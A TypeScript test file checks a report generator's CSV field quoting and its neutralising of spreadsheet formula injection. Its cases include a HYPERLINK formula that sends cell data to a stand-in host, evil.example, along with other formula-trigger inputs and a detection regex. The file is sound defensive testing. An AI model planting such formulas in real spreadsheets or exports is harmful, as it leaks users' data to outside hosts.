import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { csvField, neutraliseFormula } from '../../../../src/application/report/generate-report-files.js';

/**
 * The file stage quotes CSV fields by hand (4× faster than csv-stringify, bench/RESULTS.md). csv-stringify
 * stays the reference for quoting: on awkward text, neutralised the same way, both must produce the same
 * bytes.
 */
const alphabet = ['a', 'Z', '7', ' ', ',', '"', '\r', '\n', ';', "'", 'é', '€', '😀', '\t', '=', '\\'];
const formulaAlphabet = [...alphabet, '+', '-', '@', '＝', '＋', '－', '＠', '('];

const randomText = (seed: number, letters = alphabet): string => {
  let x = seed;
  const next = () => (x = (x * 1103515245 + 12345) % 2 ** 31);
  return Array.from({ length: next() % 12 }, () => letters[next() % letters.length]).join('');
};

/** What a spreadsheet sees in one RFC 4180 field: quotes removed, doubled quotes undone. */
const cellText = (field: string): string =>
  field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;

/** The triggers a spreadsheet evaluates at the start of a cell (OWASP), ASCII and full-width. */
const startsFormula = (text: string): boolean => /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/.test(text);

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    ['', ''],
    ['"leading quote', '"""leading quote"'],
    [',leading comma', '",leading comma"'],
  ])('encodes %j as %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")"`,
    ],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1', `"'\n=1"`],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
  ])(
    'given provider text %j that a spreadsheet would run, when encoded, then it is inert text: %j',
    (input, expected) => {
      expect(csvField(input)).toBe(expected);
    },
  );

  it.each(['Salary', 'a=b', 'x+1', 'user@example.com', '2024-01-31', "'quoted already"])(
    'given text %j that starts no formula, when encoded, then it is unchanged',
    (input) => {
      expect(csvField(input)).toBe(input);
    },
  );

  it('never lets any text start a formula, and keeps every character of it', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...formulaAlphabet), maxLength: 12 }), (text) => {
        const cell = cellText(csvField(text));
        expect(startsFormula(cell)).toBe(false);
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
      { numRuns: 5000 },
    );
  });

  it('writes the same record bytes as csv-stringify for 10,000 random rows of awkward text', () => {
    for (let seed = 1; seed <= 5000; seed++) {
      for (const letters of [alphabet, formulaAlphabet]) {
        const fields = [
          randomText(seed, letters),
          randomText(seed * 7 + 1, letters),
          randomText(seed * 13 + 5, letters),
        ];
        const ours = `${fields.map(csvField).join(',')}\r\n`;
        // Quoting a lone CR or LF too (csv-stringify quotes only its record delimiter) keeps every reader safe.
        expect(ours).toBe(
          stringify([fields.map(neutraliseFormula)], { record_delimiter: '\r\n', quoted_match: /[\r\n]/ }),
        );
      }
    }
  });
});
